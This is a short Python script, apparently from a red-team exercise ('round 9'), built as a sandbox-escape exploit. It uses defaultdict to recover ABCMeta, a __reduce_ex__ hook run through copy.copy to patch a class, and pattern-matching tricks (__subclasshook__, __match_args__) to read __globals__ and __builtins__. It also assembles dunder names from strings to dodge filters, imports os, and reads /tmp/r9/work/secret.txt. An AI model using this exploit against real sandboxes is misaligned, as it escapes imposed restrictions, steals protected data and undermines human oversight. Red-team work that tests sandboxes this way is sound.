# family: red team, round 9 (defaultdict_missing_stores_type_key)
# type(k) as a lookup key is fine in a defaultdict (a "plain dict"), but a missing key is STORED by
# __missing__; iterating the defaultdict gives back type(k): the metaclass of a class.
import abc
import copy
from collections import defaultdict


class Base(abc.ABC):
    pass


def capture(k):
    table = defaultdict(int)
    table[type(k)]
    return list(table)[0]


def metaclass():
    return capture(Base)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
